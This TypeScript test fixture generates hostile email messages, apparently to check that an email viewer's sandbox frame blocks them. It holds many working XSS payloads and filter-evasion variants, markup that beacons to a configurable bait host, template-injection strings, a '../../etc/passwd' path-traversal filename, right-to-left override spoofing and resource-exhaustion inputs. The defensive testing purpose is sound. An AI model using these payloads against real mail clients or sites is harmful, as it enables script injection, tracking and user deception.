/** A mail that can be sent through the service or composed as inbound mail. */
export type HostileMail = {
  what: string
  subject?: string
  name?: string
  html?: string
  text?: string
  tags?: Record<string, string>
  attachments?: { filename: string; content: string; content_type?: string; content_id?: string }[]
}

const RUN = "parent.pwned=top.pwned=window.pwned=1;document.title='pwned';alert(1)"
const RLO = "\u202e"

/** Markup that runs a script if scripts are allowed. */
const scripts = (bait: string): string[] => [
  `<script>${RUN};fetch("${bait}/s")</script>`,
  `<script src="${bait}/s.js"></script>`,
  `<script type="module">import "${bait}/m.js"</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<SCRIPT/x>${RUN}</SCRIPT>`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="${bait}/s.js" /></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<svg><a href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=&#x70;arent.pwned=1>`,
  `<body onload="${RUN}">`,
  `<body onpageshow="${RUN}" onresize="${RUN}">`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<textarea autofocus onfocus="${RUN}"></textarea>`,
  `<select autofocus onfocus="${RUN}"><option>x</select>`,
  `<p tabindex=0 onpointerenter="${RUN}">x</p>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<video autoplay onerror="${RUN}"><source src=x></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe src="data:text/html,<script>${RUN}</script>"></iframe>`,
  `<frameset onload="${RUN}"><frame src="javascript:${RUN}"></frameset>`,
  `<a href="javascript:${RUN}">javascript</a>`,
  `<a href="&#106;ava&Tab;script:${RUN}">entities</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">data</a>`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<isindex action="javascript:${RUN}" type=image>`,
  `<style onload="${RUN}"></style>`,
  `<link rel=stylesheet href="data:text/css,*{}" onload="${RUN}">`,
  `<p style="animation:x 1ms" onanimationstart="${RUN}">x</p><style>@keyframes x{}</style>`,
  `<template><script>${RUN}</script></template><x-y onclick="${RUN}">x</x-y>`,
]

/** Markup that sends a request to another server or navigates away, if that is allowed. */
const requests = (bait: string): string[] => [
  `<img src="${bait}/i.png">`,
  `<img srcset="${bait}/1x.png 1x, ${bait}/2x.png 2x">`,
  `<picture><source srcset="${bait}/p.webp"><img src="${bait}/p.png"></picture>`,
  `<input type=image src="${bait}/input.png">`,
  `<table background="${bait}/t.png"><tr><td background="${bait}/td.png">x</table>`,
  `<p style="background:url(${bait}/bg.png)">x</p>`,
  `<style>@import "${bait}/i.css";</style>`,
  `<style>@import url(${bait}/u.css); p::before{content:url(${bait}/c.png)}</style>`,
  `<style>@font-face{font-family:x;src:url(${bait}/f.woff)}*{font-family:x;cursor:url(${bait}/c.cur),auto}</style>`,
  `<style>li{list-style:url(${bait}/l.png)}</style><li style="border-image:url(${bait}/b.png) 1">x</li>`,
  `<link rel=stylesheet href="${bait}/l.css">`,
  `<link rel="preload" as="image" href="${bait}/pre.png"><link rel=prefetch href="${bait}/pf">`,
  `<link rel=dns-prefetch href="${bait}"><link rel=preconnect href="${bait}">`,
  `<link rel="icon" href="${bait}/favicon.ico"><link rel=manifest href="${bait}/m.json">`,
  `<meta http-equiv="refresh" content="0;url=${bait}/refresh">`,
  `<meta http-equiv="refresh" content="0;url=/emails">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"><img src="${bait}/csp.png">`,
  `<meta http-equiv="set-cookie" content="a=b"><meta name=referrer content=unsafe-url><img src="${bait}/r.png">`,
  `<base href="${bait}/"><img src="relative.png"><a href="page" target=_top>x</a>`,
  `<base target="_top"><a href="${bait}/top">x</a>`,
  `<iframe src="${bait}/frame"></iframe><iframe src="/sandbox/info"></iframe>`,
  `<object data="${bait}/o.swf"><param name=movie value="${bait}/p.swf"></object>`,
  `<embed src="${bait}/e.pdf"><applet code="${bait}/a.class"></applet>`,
  `<video src="${bait}/v.mp4" poster="${bait}/poster.png" autoplay></video><audio autoplay src="${bait}/a.mp3"></audio>`,
  `<video><track default src="${bait}/t.vtt" kind=captions></video>`,
  `<form action="${bait}/form" method=post><input name=a value=b autofocus><button>x</button></form>`,
  `<svg><image href="${bait}/svg.png"/><use href="${bait}/u.svg#x"/><feImage href="${bait}/fe.png"/></svg>`,
  `<svg><style>@import "${bait}/svg.css";</style><rect fill="url(${bait}/f.svg#g)" filter="url(${bait}/f.svg#f)"/></svg>`,
  `<a href="${bait}/ping" ping="${bait}/pinged">x</a>`,
  `<bgsound src="${bait}/b.wav"><img lowsrc="${bait}/low.png" dynsrc="${bait}/dyn.avi">`,
  `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${bait}/spec"]}]}</script>`,
  `<portal src="${bait}/portal"></portal><fencedframe src="${bait}/ff"></fencedframe>`,
]

/** Values for text fields: markup, characters that change the text direction, very long text. */
const texts = (bait: string): string[] => [
  `<script>${RUN}</script>`,
  `<img src="${bait}/t.png" onerror="${RUN}">`,
  `"><svg onload="${RUN}">`,
  `</title></textarea></style><script>${RUN}</script>`,
  `' onmouseover='${RUN}' x='`,
  `{{constructor.constructor("${RUN}")()}} \${alert(1)} <%= 1 %>`,
  `${RLO}gpj.exe tfihs ${RLO}`,
  `\u2066\u2067\u2068${RLO}\u202d deep`,
  `zalgo \u0300${"\u0315\u0358".repeat(100)} end`,
  "x".repeat(900),
]

const file = (filename: string, content_id?: string) => ({
  filename,
  content: Buffer.from("<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwned=1'/>").toString("base64"),
  content_type: "image/svg+xml",
  ...(content_id && { content_id }),
})

const files = (bait: string): HostileMail[] => [
  { what: "a file name with quotes", attachments: [file(`a"b'c.svg`)] },
  { what: "a file name of markup", attachments: [file(`"><img src=x onerror=alert(1)>.svg`)] },
  { what: "a file name with a parent path", attachments: [file(`../../etc/passwd.svg`)] },
  { what: "a file name with reversed text direction", attachments: [file(`invoice${RLO}gnp.svg`)] },
  { what: "an inline svg with a script", html: `<img src="cid:a">`, attachments: [file("a.svg", "a")] },
  {
    what: "a content id of markup",
    html: `<img src='cid:x"onerror="alert(1)'>`,
    attachments: [file("a.svg", `x"onerror="alert(1)`)],
  },
  {
    what: "a content id that is a URL",
    html: `<img src="cid:${bait}/">`,
    attachments: [file("a.svg", `${bait}/`)],
  },
  { what: "a wrong image type", attachments: [{ ...file("a.png"), content_type: "image/png" }] },
]

const long: HostileMail[] = [
  { what: "a line of a megabyte in the html", html: `<p>${"w".repeat(1_000_000)}</p>` },
  { what: "a line of a megabyte in the text", text: "w".repeat(1_000_000) },
  { what: "more nested elements than are laid out", html: "<div>".repeat(260) },
  {
    what: "a style that covers everything",
    html: `<div style="position:fixed;inset:0;z-index:2147483647;background:red">x</div>`,
  },
]

/** A hundred mails that try to escape from their frame. Their requests go to `bait`. */
export function hostileMails(bait: string): HostileMail[] {
  const inHtml = [...scripts(bait), ...requests(bait)].map((html) => ({ what: html.slice(0, 60), html }))
  const inText = texts(bait).map((text) => ({ what: `as text: ${text.slice(0, 40)}`, subject: text, name: text, text }))
  const inTags = texts(bait)
    .slice(0, 8)
    .map((text) => ({ what: `as tag: ${text.slice(0, 40)}`, tags: { [text.slice(0, 100)]: text.slice(0, 200) } }))
  return [...inHtml, ...inText, ...inTags, ...files(bait), ...long]
}
